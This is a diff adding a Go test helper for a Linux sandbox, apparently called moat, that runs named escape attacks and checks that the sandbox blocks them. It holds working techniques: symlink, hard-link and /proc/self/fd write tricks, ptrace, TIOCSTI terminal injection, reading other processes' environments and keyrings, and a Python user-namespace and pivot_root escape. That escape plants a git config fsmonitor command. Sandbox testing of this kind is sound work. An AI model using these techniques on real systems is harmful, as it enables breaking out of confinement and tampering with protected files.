@@ -1,0 +1,419 @@
+//go:build linux
+
+package privtests
+
+// The attack helper: the test binary re-executed with MOAT_ATTACK=1 runs one
+// attack and prints "ESCAPED: ..." (exit 0) when it worked, or
+// "blocked: ..." (exit 1) when it did not. The same attack runs without moat
+// (it must escape: the target is reachable by this user) and under moat (it
+// must be blocked), so a test cannot pass because the attack was broken.
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+func attackMain(args []string) int {
+	if len(args) == 0 {
+		fmt.Println("blocked: no attack named")
+		return 2
+	}
+	f, ok := attacks[args[0]]
+	if !ok {
+		fmt.Printf("blocked: unknown attack %q\n", args[0])
+		return 2
+	}
+	detail, err := f(args[1:])
+	if err != nil {
+		fmt.Printf("blocked: %v\n", err)
+		return 1
+	}
+	fmt.Printf("ESCAPED: %s\n", detail)
+	return 0
+}
+
+var attacks = map[string]func([]string) (string, error){
+	// read PATH: read a file and print its first bytes.
+	"read": func(a []string) (string, error) {
+		b, err := os.ReadFile(a[0])
+		if err != nil {
+			return "", err
+		}
+		return fmt.Sprintf("read %q", firstLine(b)), nil
+	},
+	// list DIR: list a directory (a hidden one shows as empty).
+	"list": func(a []string) (string, error) {
+		es, err := os.ReadDir(a[0])
+		if err != nil {
+			return "", err
+		}
+		if len(es) == 0 {
+			return "", fmt.Errorf("%s is empty", a[0])
+		}
+		return fmt.Sprintf("%d entries, first %s", len(es), es[0].Name()), nil
+	},
+	// symlink-read TARGET LINK: plant a symlink and read through it.
+	"symlink-read": func(a []string) (string, error) {
+		if err := os.Symlink(a[0], a[1]); err != nil && !os.IsExist(err) {
+			return "", err
+		}
+		b, err := os.ReadFile(a[1])
+		if err != nil {
+			return "", err
+		}
+		return fmt.Sprintf("read %q through a symlink", firstLine(b)), nil
+	},
+	// hardlink-read TARGET LINK: hard-link a file and read the link.
+	"hardlink-read": func(a []string) (string, error) {
+		if err := os.Link(a[0], a[1]); err != nil {
+			return "", err
+		}
+		b, err := os.ReadFile(a[1])
+		if err != nil {
+			return "", err
+		}
+		return fmt.Sprintf("read %q through a hard link", firstLine(b)), nil
+	},
+	// write PATH DATA: create or truncate a file and write.
+	"write": func(a []string) (string, error) {
+		if err := os.WriteFile(a[0], []byte(a[1]), 0o644); err != nil {
+			return "", err
+		}
+		return "wrote " + a[0], nil
+	},
+	// mkdir-write DIR FILE DATA: create a directory and a file in it.
+	"mkdir-write": func(a []string) (string, error) {
+		if err := os.MkdirAll(a[0], 0o755); err != nil {
+			return "", err
+		}
+		p := filepath.Join(a[0], a[1])
+		if err := os.WriteFile(p, []byte(a[2]), 0o755); err != nil {
+			return "", err
+		}
+		return "wrote " + p, nil
+	},
+	// symlink-write TARGET LINK DATA: plant a symlink and write through it.
+	"symlink-write": func(a []string) (string, error) {
+		if err := os.Symlink(a[0], a[1]); err != nil {
+			return "", err
+		}
+		if err := os.WriteFile(a[1], []byte(a[2]), 0o644); err != nil {
+			return "", err
+		}
+		return "wrote " + a[0] + " through a symlink", nil
+	},
+	// rename-over SRC DST: make SRC and rename it over DST.
+	"rename-over": func(a []string) (string, error) {
+		if err := os.WriteFile(a[0], []byte("evil\n"), 0o644); err != nil {
+			return "", err
+		}
+		if err := os.Rename(a[0], a[1]); err != nil {
+			return "", err
+		}
+		return "renamed over " + a[1], nil
+	},
+	// hardlink-write TARGET LINK DATA: hard-link TARGET at LINK, write LINK.
+	"hardlink-write": func(a []string) (string, error) {
+		if err := os.Link(a[0], a[1]); err != nil {
+			return "", err
+		}
+		f, err := os.OpenFile(a[1], os.O_WRONLY|os.O_APPEND, 0)
+		if err != nil {
+			return "", err
+		}
+		defer f.Close()
+		if _, err := f.WriteString(a[2]); err != nil {
+			return "", err
+		}
+		return "wrote " + a[0] + " through a hard link", nil
+	},
+	// link-over SRC DST: make SRC and hard-link it at DST.
+	"link-over": func(a []string) (string, error) {
+		if err := os.WriteFile(a[0], []byte("evil\n"), 0o644); err != nil {
+			return "", err
+		}
+		if err := os.Link(a[0], a[1]); err != nil {
+			return "", err
+		}
+		return "hard-linked at " + a[1], nil
+	},
+	// move-dir DIR ASIDE FILE DATA: move a directory aside, recreate it and
+	// write FILE in it (replacing a protected .git, say).
+	"move-dir": func(a []string) (string, error) {
+		if err := os.Rename(a[0], a[1]); err != nil {
+			return "", err
+		}
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(a[0], a[2])), 0o755); err != nil {
+			return "", err
+		}
+		if err := os.WriteFile(filepath.Join(a[0], a[2]), []byte(a[3]), 0o755); err != nil {
+			return "", err
+		}
+		return "replaced " + a[0], nil
+	},
+	// magic-write PATH DATA: open read-only, reopen through /proc/self/fd
+	// for writing.
+	"magic-write": func(a []string) (string, error) {
+		f, err := os.Open(a[0])
+		if err != nil {
+			return "", err
+		}
+		defer f.Close()
+		w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_TRUNC, 0)
+		if err != nil {
+			return "", err
+		}
+		defer w.Close()
+		if _, err := w.WriteString(a[1]); err != nil {
+			return "", err
+		}
+		return "wrote " + a[0] + " through /proc/self/fd", nil
+	},
+	// ptrace PID: attach to a process.
+	"ptrace": func(a []string) (string, error) {
+		pid, _ := strconv.Atoi(a[0])
+		if err := unix.PtraceSeize(pid); err != nil {
+			return "", fmt.Errorf("ptrace(SEIZE, %d): %w", pid, err)
+		}
+		return fmt.Sprintf("attached to %d", pid), nil
+	},
+	// kill PID: send SIGTERM to a process.
+	"kill": func(a []string) (string, error) {
+		pid, _ := strconv.Atoi(a[0])
+		if err := unix.Kill(pid, unix.SIGTERM); err != nil {
+			return "", fmt.Errorf("kill(%d): %w", pid, err)
+		}
+		return fmt.Sprintf("signalled %d", pid), nil
+	},
+	// environ PID: read another process's environment.
+	"environ": func(a []string) (string, error) {
+		b, err := os.ReadFile("/proc/" + a[0] + "/environ")
+		if err != nil {
+			return "", err
+		}
+		if !bytes.Contains(b, []byte(a[1])) {
+			return "", fmt.Errorf("environment of %s does not hold %s", a[0], a[1])
+		}
+		return "read the environment of " + a[0], nil
+	},
+	// tiocsti FD: inject a character into the terminal on FD.
+	"tiocsti": func(a []string) (string, error) {
+		fd, _ := strconv.Atoi(a[0])
+		c := byte('#')
+		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e != 0 {
+			return "", fmt.Errorf("ioctl(TIOCSTI): %w", e)
+		}
+		return "injected a character", nil
+	},
+	// tiocsti-ctty-out FD: inject into the terminal on FD, which is the
+	// caller's controlling terminal (stdin is not a terminal).
+	"tiocsti-ctty-out": func(a []string) (string, error) {
+		fd, _ := strconv.Atoi(a[0])
+		c := byte('#')
+		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e != 0 {
+			return "", fmt.Errorf("ioctl(TIOCSTI) on fd %d: %w", fd, e)
+		}
+		return "injected a character", nil
+	},
+	// tiocsti-ctty: become the session leader of the terminal on fd 0 (as a
+	// command on the caller's terminal is) and inject into it.
+	"tiocsti-ctty": func(a []string) (string, error) {
+		unix.Setsid()
+		unix.IoctlSetInt(0, unix.TIOCSCTTY, 0)
+		c := byte('#')
+		if _, _, e := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c))); e != 0 {
+			return "", fmt.Errorf("ioctl(TIOCSTI): %w", e)
+		}
+		return "injected a character", nil
+	},
+	// io_uring: set up an io_uring instance.
+	"io_uring": func(a []string) (string, error) {
+		var params [120]byte
+		fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params[0])), 0)
+		if e != 0 {
+			return "", fmt.Errorf("io_uring_setup: %w", e)
+		}
+		unix.Close(int(fd))
+		return "io_uring instance created", nil
+	},
+	// setuid PATH: run a set-user-ID program and report its effective uid
+	// and capabilities.
+	"setuid": func(a []string) (string, error) {
+		out, err := exec.Command(a[0], "-u").Output()
+		if err != nil {
+			return "", err
+		}
+		euid := strings.TrimSpace(string(out))
+		if euid != strconv.Itoa(os.Getuid()) {
+			return "euid became " + euid, nil
+		}
+		return "", fmt.Errorf("euid stayed %s", euid)
+	},
+	// caps: report the effective capabilities of a fresh exec.
+	"caps": func(a []string) (string, error) {
+		out, err := exec.Command("/bin/sh", "-c", "grep CapEff /proc/self/status").Output()
+		if err != nil {
+			return "", err
+		}
+		if strings.Contains(string(out), "0000000000000000") {
+			return "", fmt.Errorf("no capabilities: %s", strings.TrimSpace(string(out)))
+		}
+		return "capabilities: " + strings.TrimSpace(string(out)), nil
+	},
+	// daemon PIDFILE: leave a process behind with setsid and a double fork.
+	"daemon": func(a []string) (string, error) {
+		cmd := exec.Command("/bin/sh", "-c", `setsid sh -c 'sleep 300 & echo $! > "$0"; exit 0' "$1" </dev/null >/dev/null 2>&1 &`, "sh", a[0])
+		if err := cmd.Run(); err != nil {
+			return "", err
+		}
+		for i := 0; i < 100; i++ {
+			if b, err := os.ReadFile(a[0]); err == nil && len(bytes.TrimSpace(b)) > 0 {
+				return "left " + strings.TrimSpace(string(b)) + " behind", nil
+			}
+			time.Sleep(20 * time.Millisecond)
+		}
+		return "", fmt.Errorf("daemon did not start")
+	},
+	// userns-replace GITDIR: the nested user namespace + pivot_root + detach
+	// trick against a bind-mount protection of GITDIR/config: hold the git
+	// directory by fd, leave the protective mount behind in the old
+	// namespace, and replace config through the fd.
+	"userns-replace": userNSReplace,
+	// unshare-user: create a user namespace.
+	"unshare-user": func(a []string) (string, error) {
+		out, err := exec.Command(python3(), "-c", unshareScript).CombinedOutput()
+		s := strings.TrimSpace(string(out))
+		if err != nil || !strings.HasPrefix(s, "ESCAPED") {
+			return "", fmt.Errorf("%s", strings.TrimPrefix(s, "blocked: "))
+		}
+		return strings.TrimPrefix(s, "ESCAPED: "), nil
+	},
+	// mount-proc: mount something (needs a mount namespace of its own).
+	"umount": func(a []string) (string, error) {
+		if err := unix.Unmount(a[0], unix.MNT_DETACH); err != nil {
+			return "", fmt.Errorf("umount %s: %w", a[0], err)
+		}
+		return "unmounted " + a[0], nil
+	},
+	// keyring: read the session keyring.
+	"keyring": func(a []string) (string, error) {
+		id, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_SESSION_KEYRING, 0, 0, 0)
+		if err != nil {
+			return "", fmt.Errorf("keyctl: %w", err)
+		}
+		buf := make([]byte, 1024)
+		n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
+		if err != nil {
+			return "", fmt.Errorf("keyctl read: %w", err)
+		}
+		if !bytes.Contains(buf[:n], []byte(a[0])) && !hasKey(id, a[0]) {
+			return "", fmt.Errorf("session keyring %d does not hold %s", id, a[0])
+		}
+		return "reached the caller's session keyring", nil
+	},
+	// fds: report descriptors beyond stdio.
+	"fds": func(a []string) (string, error) {
+		es, err := os.ReadDir("/proc/self/fd")
+		if err != nil {
+			return "", err
+		}
+		var extra []string
+		for _, e := range es {
+			n, _ := strconv.Atoi(e.Name())
+			if n > 2 {
+				if t, err := os.Readlink("/proc/self/fd/" + e.Name()); err == nil && !strings.Contains(t, "/proc/") && !strings.HasPrefix(t, "/proc") {
+					extra = append(extra, e.Name()+"->"+t)
+				}
+			}
+		}
+		// The directory listing itself holds one fd.
+		if len(extra) <= 1 {
+			return "", fmt.Errorf("only stdio: %v", extra)
+		}
+		return "inherited " + strings.Join(extra, ", "), nil
+	},
+}
+
+func hasKey(keyring int, desc string) bool {
+	id, err := unix.KeyctlSearch(keyring, "user", desc, 0)
+	return err == nil && id > 0
+}
+
+func firstLine(b []byte) string {
+	if i := bytes.IndexByte(b, '\n'); i >= 0 {
+		b = b[:i]
+	}
+	if len(b) > 60 {
+		b = b[:60]
+	}
+	return string(b)
+}
+
+// userNSScript is the nested-namespace attack, in Python: unshare(CLONE_NEWUSER)
+// needs a single-threaded process, which a Go program never is.
+const userNSScript = `
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+def chk(r, what):
+    if r < 0:
+        e = ctypes.get_errno()
+        print("blocked: %s: %s" % (what, os.strerror(e))); sys.exit(1)
+gitdir = sys.argv[1]
+dfd = os.open(gitdir, os.O_PATH | os.O_DIRECTORY)
+uid, gid = os.getuid(), os.getgid()
+chk(libc.unshare(0x10000000 | 0x00020000), "unshare(CLONE_NEWUSER|CLONE_NEWNS)")
+try:
+    open("/proc/self/setgroups", "w").write("deny")
+except OSError:
+    pass
+open("/proc/self/uid_map", "w").write("%d %d 1" % (uid, uid))
+open("/proc/self/gid_map", "w").write("%d %d 1" % (gid, gid))
+chk(libc.mount(b"", b"/", None, 0x4000 | 0x40000, None), "make / private")
+tmp = b"/proc/self/fdinfo" if not os.access("/tmp", os.W_OK) else b"/tmp"
+chk(libc.mount(b"none", tmp, b"tmpfs", 0, None), "tmpfs")
+os.mkdir(tmp + b"/old")
+chk(libc.syscall(155, tmp, tmp + b"/old"), "pivot_root")
+chk(libc.umount2(b"/old", 2), "detach the old root")
+os.rename("config", "config.aside", src_dir_fd=dfd, dst_dir_fd=dfd)
+fd = os.open("config", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=dfd)
+os.write(fd, b"[core]\n\tfsmonitor = touch /tmp/pwned\n")
+os.close(fd)
+print("ESCAPED: replaced %s/config" % gitdir)
+`
+
+func userNSReplace(a []string) (string, error) {
+	cmd := exec.Command(python3(), "-c", userNSScript, a[0])
+	out, err := cmd.CombinedOutput()
+	s := strings.TrimSpace(string(out))
+	if err != nil || !strings.HasPrefix(s, "ESCAPED") {
+		return "", fmt.Errorf("%s", strings.TrimPrefix(s, "blocked: "))
+	}
+	return strings.TrimPrefix(s, "ESCAPED: "), nil
+}
+
+func python3() string {
+	for _, p := range []string{"/usr/bin/python3", "/usr/local/bin/python3"} {
+		if _, err := os.Stat(p); err == nil {
+			return p
+		}
+	}
+	return "python3"
+}
+
+// unshareScript creates a user namespace (single-threaded, as it must be).
+const unshareScript = `
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.unshare(0x10000000) < 0:
+    print("blocked: unshare(CLONE_NEWUSER): " + os.strerror(ctypes.get_errno())); sys.exit(1)
+print("ESCAPED: created a user namespace")
+`
